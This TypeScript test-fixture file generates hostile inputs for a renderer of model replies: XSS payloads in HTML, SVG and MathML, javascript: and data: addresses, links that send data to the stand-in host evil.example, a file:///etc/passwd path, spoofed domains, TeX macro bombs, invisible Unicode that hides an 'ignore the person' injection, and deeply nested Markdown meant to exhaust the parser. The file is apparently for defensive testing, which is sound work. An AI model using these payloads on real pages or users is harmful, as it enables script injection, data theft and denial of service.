/** Replies that a hostile text could make a model write, all of our own making. */
export interface HostileCase {
  readonly name: string
  readonly text: string
}

/** What a script calls if one ever runs, and where a request goes if one is ever made. */
const run = 'globalThis.hostileRan()'
const evil = 'https://evil.example/stolen'

const tags = 'img svg video audio iframe object embed input details marquee body math style form'
const handlers = 'onerror onload onclick onfocus ontoggle onmouseover onbegin onanimationstart'

const html: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC="${evil}.js"></SCRIPT>`,
  `<script\n>${run}\n</script\n>`,
  `<<script>script>${run}<</script>/script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img/src/onerror=${run}>`,
  `<img src="${evil}.png">`,
  `<img srcset="${evil} 1x, ${evil} 2x" src=${evil}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></svg>`,
  `<svg><animate attributeName=href values="javascript:${run}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="${evil}">`,
  `<link rel=stylesheet href="${evil}.css">`,
  `<link rel=preload as=image href="${evil}.png"><link rel=dns-prefetch href="//evil.example">`,
  `<style>@import "${evil}.css"; * { background: url(${evil}) }</style>`,
  `<div style="background:url(${evil})">x</div>`,
  `<base href="${evil}/">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<form action="${evil}"><button>x</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video autoplay src="${evil}.mp4" onloadstart=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<a href="javascript:${run}" autofocus>x</a>`,
  `<a href="${evil}" ping="${evil}">x</a>`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<title><img src=x onerror=${run}></title>`,
  `<textarea></textarea><img src=x onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}>`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=${run}>`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `<x onpointerrawupdate=${run} style=position:fixed;inset:0>`,
  `<custom-element onclick=${run}></custom-element>`,
  `<p id="root"></p><p id=__proto__ name=constructor>`,
  `<portal src="${evil}"></portal><fencedframe></fencedframe>`,
  `\u0000<scr\u0000ipt>${run}</script>`,
]

const addresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61;vascript:${run}`,
  `javascript%3A${run}`,
  `%6Aavascript:${run}`,
  `jav&Tab;ascript:${run}`,
  `javascript://evil.example/%0A${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:${evil}`,
  `filesystem:${evil}`,
  `view-source:${evil}`,
  `file:///etc/passwd`,
  `about:blank`,
  `chrome://settings`,
  `intent://x#Intent;scheme=http;end`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `/api/stolen?x`,
  `https://bank.example@evil.example/`,
  `https://evil.example\u202Emoc.knab`,
  `https://xn--80ak6aa92e.com/`,
  `https://аpple.com/`,
  `mailto:x?body=${'y'.repeat(200)}`,
  `ftp://evil.example/x`,
  `ws://evil.example/x`,
  `https://`,
  `https://[::1]:99999/`,
  `#"onmouseover="${run}`,
  `x" onerror="${run}`,
]

const formulas: readonly string[] = [
  `\\href{javascript:${run}}{x}`,
  `\\url{javascript:${run}}`,
  `\\includegraphics[height=1em]{${evil}.png}`,
  `\\htmlClass{x}{y}`,
  `\\htmlId{root}{y}`,
  `\\htmlStyle{position:fixed;inset:0}{y}`,
  `\\htmlData{onload=${run}}{y}`,
  `\\def\\x{\\x}\\x`,
  `\\def\\x{\\x\\x}\\x`,
  `\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\e\\e}\\def\\e{ha}\\a`,
  `\\newcommand\\x[1]{\\x{#1#1}}\\x{y}`,
  `\\gdef\\frac{\\href{javascript:${run}}{x}}\\frac{1}{2}`,
  `\\let\\x=\\x\\x`,
  `\\edef\\x{\\x}`,
  `\\expandafter\\expandafter\\expandafter\\x`,
  `\\rule{100000em}{100000em}`,
  `\\hspace{-99999em}x`,
  `\\raisebox{99999em}{x}`,
  `\\kern99999em x`,
  `{\\Huge ${'\\Huge '.repeat(200)} x}`,
  `\\begin{array}{${'c'.repeat(2000)}} x \\end{array}`,
  `\\begin{matrix}${'x & '.repeat(500)}\\end{matrix}`,
  `\\begin{matrix}${'x \\\\ '.repeat(500)}\\end{matrix}`,
  `\\begin{align}${'\\begin{align}'.repeat(200)}`,
  `\\text{<img src=x onerror=${run}>}`,
  `\\text{\u202Eabc\u200B\u{E0041}}`,
  `\\unicode{x202E}`,
  `\\char"202E \\char"E0041`,
  `x${'^x'.repeat(50)}`,
  `\\color{red;background:url(${evil})}x`,
  `\\colorbox{url(${evil})}{x}`,
  `\\class{x}{y} \\cssId{root}{y} \\style{inset:0}{y}`,
  `\\require{html} \\mmlToken{mi}[href="${evil}"]{x}`,
  `\\tag{${'x'.repeat(2000)}}`,
  `\\verb|<script>${run}</script>|`,
  `\\\u0000x`,
  `%${'x'.repeat(300)}`,
  `\\operatorname{constructor}__proto__`,
  `#1 #2 ## & && _ ^ ~ \\`,
  `${'\\left('.repeat(100)}x${'\\right)'.repeat(100)}`,
]

const invisible: readonly (readonly [string, string])[] = [
  ['tag characters', hide('ignore the person')],
  ['selectors', Array.from('secret', select).join('')],
  ['right-to-left override', '\u202Egnp.exe'],
  ['isolates', '\u2066\u2067\u2068x\u2069'],
  ['unclosed embedding', '\u202A\u202B\u202D'.repeat(300)],
  ['no width', 'pay\u200Bpal\u200C\u200D\uFEFF\u2060'],
  ['fillers', '\u3164\u115F\u1160\uFFA0\u17B4'],
  ['soft hyphens', 'pass\u00ADword'.repeat(100)],
  ['controls', '\u0000\u0007\u0008\u001B[2J\u007F\u0085\u009B31m'],
  ['line separators', 'a\u2028b\u2029c'],
  ['marks without end', `x${'\u0301\u0489\u20DD'.repeat(2000)}`],
  ['halves of characters', '\ud800 \udfff \ud83d'],
  ['noncharacters', '\uFFFE\uFFFF\u{1FFFF}'],
  ['private use', '\uE000\u{F0000}'],
  ['annotations', '\uFFF9a\uFFFAb\uFFFB'],
  ['music and shorthand', '\u{1D173}\u{1BCA0}'],
]

function hide(words: string): string {
  return Array.from(words, (letter) =>
    String.fromCodePoint(0xe_00_00 + (letter.codePointAt(0) ?? 0)),
  ).join('')
}

function select(letter: string): string {
  return `x${String.fromCodePoint(0xe_01_00 + (letter.codePointAt(0) ?? 0))}`
}

const levels: readonly (readonly [string, (count: number) => string])[] = [
  ['quotes', (count) => `${'> '.repeat(count)}x`],
  ['quotes without spaces', (count) => `${'>'.repeat(count)}x`],
  ['dashes', (count) => `${'- '.repeat(count)}x`],
  ['numbers', (count) => `${'1. '.repeat(count)}x`],
  ['mixed marks', (count) => `${'> - 1. '.repeat(count)}x`],
  [
    'list lines',
    (count) =>
      Array.from({ length: Math.min(count, 300) }, (_, level) => `${'  '.repeat(level)}- x`).join(
        '\n',
      ),
  ],
  [
    'tab lines',
    (count) =>
      Array.from({ length: Math.min(count, 300) }, (_, level) => `${'\t'.repeat(level)}- x`).join(
        '\n',
      ),
  ],
  ['open brackets', (count) => '['.repeat(count)],
  ['closed brackets', (count) => `${'['.repeat(count)}x${']'.repeat(count)}`],
  ['links in links', (count) => `${'['.repeat(count)}x${`](${evil})`.repeat(count)}`],
  ['pictures in pictures', (count) => `${'!['.repeat(count)}x${`](${evil})`.repeat(count)}`],
  ['open link', (count) => `[x](${'('.repeat(count)}`],
  ['stars', (count) => '*'.repeat(count)],
  ['stars around', (count) => `${'*'.repeat(count)}x${'*'.repeat(count)}`],
  ['stars and letters', (count) => '*a '.repeat(count)],
  ['stars and underscores', (count) => '*_'.repeat(count) + 'x' + '_*'.repeat(count)],
  ['strong and weak', (count) => '**a *b '.repeat(count)],
  [
    'strong and weak, closed',
    (count) => `${'**a *b '.repeat(count / 10)}x${'* **'.repeat(count / 10)}`,
  ],
  [
    'marks under a limit',
    (count) =>
      Array.from({ length: Math.ceil(count / 299) }, () => '**a *b '.repeat(299)).join('\n\n'),
  ],
  ['tildes, closed', (count) => `${'~~a '.repeat(count / 10)}x${'~~ '.repeat(count / 10)}`],
  ['tildes', (count) => '~~a '.repeat(count)],
  [
    'backticks that grow',
    (count) =>
      Array.from({ length: Math.min(count, 400) }, (_, length) => '`'.repeat(length + 1)).join(' '),
  ],
  ['backticks', (count) => '` '.repeat(count)],
  ['fences', (count) => '```\n'.repeat(count)],
  ['open tags', (count) => '<div>'.repeat(count)],
  ['angle brackets', (count) => '<'.repeat(count)],
  ['comments', (count) => '<!--'.repeat(count)],
  ['autolinks', (count) => `${evil} `.repeat(Math.min(count, 500))],
  ['half addresses', (count) => 'a@'.repeat(count)],
  ['www', (count) => `www.${'a.'.repeat(count)}`],
  ['entities', (count) => '&#x;&#'.repeat(count)],
  ['backslashes', (count) => '\\'.repeat(count)],
  ['pipes', (count) => `${'|'.repeat(count)}\n${'|-'.repeat(count)}|\n${'|x'.repeat(count)}`],
  ['table rows', (count) => `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(Math.min(count, 1000))}`],
  [
    'references',
    (count) =>
      Array.from({ length: Math.min(count, 500) }, (_, at) => `[${at}]: ${evil} "t"`).join('\n'),
  ],
  ['headings', (count) => '# '.repeat(count)],
  ['underlines', (count) => 'x\n=\n'.repeat(Math.min(count, 500))],
  ['rules', (count) => '***\n'.repeat(Math.min(count, 500))],
  ['blank lines', (count) => `x${'\n'.repeat(count)}x`],
  ['spaces', (count) => `x${' '.repeat(count)}\ny`],
  ['one long word', (count) => 'x'.repeat(count * 4)],
  ['dollars', (count) => '$$x'.repeat(count)],
  ['open formulas', (count) => '\\['.repeat(count)],
  ['open inline formulas', (count) => '\\('.repeat(count)],
  ['fractions', (count) => `\\[${'\\frac{'.repeat(count)}x${'}{2}'.repeat(count)}\\]`],
  ['roots', (count) => `$$${'\\sqrt{'.repeat(count)}x${'}'.repeat(count)}$$`],
  ['braces', (count) => `\\(${'{'.repeat(count)}x${'}'.repeat(count)}\\)`],
  ['powers', (count) => `\\(${'x^{'.repeat(count)}x${'}'.repeat(count)}\\)`],
  [
    'environments',
    (count) => `\\[${'\\begin{matrix}'.repeat(count)}x${'\\end{matrix}'.repeat(count)}\\]`,
  ],
  ['boxes', (count) => `${'\\boxed{'.repeat(count)}x${'}'.repeat(count)}`],
  ['small formulas', (count) => '\\(x^2\\) '.repeat(Math.min(count, 200))],
  ['pictures without end', (count) => '![ '.repeat(count * 3)],
  ['pictures and tabs', (count) => '![\t![ '.repeat(count * 2)],
  ['less-than signs and letters', (count) => '<a '.repeat(count * 3)],
  ['escapes', (count) => "{\\'".repeat(count * 3)],
  ['escapes and www', (count) => "\\\twww.'".repeat(count)],
  ['ends of formulas', (count) => 'a\\)'.repeat(count * 3)],
  ['tasks in tasks', (count) => '- [ ] '.repeat(count)],
  ['definitions without end', (count) => '[1]: <?'.repeat(count)],
  ['half addresses in braces', (count) => 'a@{'.repeat(count * 2)],
  [
    'marks, tags and links',
    (count) => `${'}**a<x y="'.repeat(count / 10)}x${'](x)['.repeat(count / 10)}`,
  ],
  ['fences and ticks', (count) => `${'```\n```\n\\'.repeat(count)}${'1. `'.repeat(count)}`],
  ['numbers under lines', (count) => '=\n1. '.repeat(count)],
  ['tables without end', (count) => '|-|-|\n(=\n'.repeat(count)],
  ['lines of one item', (count) => `- [ ] ${')=\n'.repeat(count * 2)}`],
  ['thought tags', (count) => '<think></think>'.repeat(count)],
]

/** Where in a text something hostile can stand. */
const places: readonly (readonly [string, (inside: string) => string])[] = [
  ['alone', (inside) => inside],
  ['list', (inside) => `- ${inside}\n  ${inside}`],
  ['heading', (inside) => `## ${inside}`],
  ['table', (inside) => `| a | b |\n|---|---|\n| ${inside.replaceAll('\n', ' ')} | x |`],
  ['link text', (inside) => `[${inside}](https://example.com)`],
  ['code', (inside) => `\`\`\`${inside.replaceAll('\n', ' ')}\n${inside}\n\`\`\``],
]

const linkForms: readonly (readonly [string, (address: string) => string])[] = [
  ['link', (address) => `[x](${address})`],
  ['angle link', (address) => `[x](<${address}> "title")`],
  ['picture', (address) => `![x](${address})`],
  ['autolink', (address) => `<${address}>`],
  ['reference', (address) => `[x][y]\n\n[y]: ${address} "t"`],
]

const formulaForms: readonly (readonly [string, (formula: string) => string])[] = [
  ['block', (formula) => `\\[${formula}\\]`],
  ['inline', (formula) => `a \\(${formula}\\) b`],
]

const crossed = (
  family: string,
  forms: readonly (readonly [string, (inside: string) => string])[],
  insides: readonly string[],
): readonly HostileCase[] =>
  forms.flatMap(([form, wrap]) =>
    insides.map((inside, at) => ({ name: `${family} ${at + 1}, ${form}`, text: wrap(inside) })),
  )

export const hostileCases: readonly HostileCase[] = [
  ...crossed('markup', places, html),
  ...tags.split(' ').flatMap((tag) =>
    handlers.split(' ').map((handler) => ({
      name: `<${tag} ${handler}>`,
      text: `Before <${tag} ${handler}="${run}" src=x href=x>x</${tag}> after`,
    })),
  ),
  ...crossed('address', linkForms, addresses),
  ...crossed('formula', formulaForms, formulas),
  ...invisible.flatMap(([name, text]) => [
    { name: `invisible: ${name}`, text: `Before ${text} after` },
    { name: `invisible: ${name}, code`, text: `\`${text}\` and\n\n\`\`\`js\n${text}\n\`\`\`` },
    { name: `invisible: ${name}, link`, text: `[${text}](https://example.com/${text})` },
  ]),
  ...levels.flatMap(([name, make]) =>
    [50, 5000].map((count) => ({ name: `${count} levels: ${name}`, text: make(count) })),
  ),
]
